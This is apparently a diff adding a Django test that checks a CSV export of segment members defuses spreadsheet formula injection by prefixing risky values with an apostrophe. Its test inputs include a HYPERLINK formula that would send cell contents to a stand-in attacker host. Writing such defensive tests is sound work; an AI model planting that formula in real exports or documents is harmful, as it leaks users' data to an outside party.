@@ -428,6 +428,17 @@ def test_members_csv_streams_everyone_with_formulas_defused(workspace, owner):
     assert sorted(row[1:4] for row in rows[1:]) == [["'=cmd()", "'+evil@example.com", "'@sum"], ["plain", "", ""]]
 
 
+@pytest.mark.parametrize("text", ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', "+1", "-2", "@x", "\tx", "\rx"])
+def test_members_csv_defuses_every_formula_start(workspace, owner, text):
+    shopper(workspace, text, traits={"plan": "x", "email": text, "name": text})
+    segment = _segment(workspace, "Planned", {"type": "trait", "key": "plan", "operator": "is_set"})
+
+    response = logged_in_client(owner).get(reverse("segment_members_csv", args=[segment.pk]))
+
+    [_, row] = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert row[1:4] == ["'" + text] * 3
+
+
 def test_refresh_now_queues_a_refresh(workspace, owner, django_capture_on_commit_callbacks):
     segment = _segment(workspace, "Buyers", refresh=False)
 
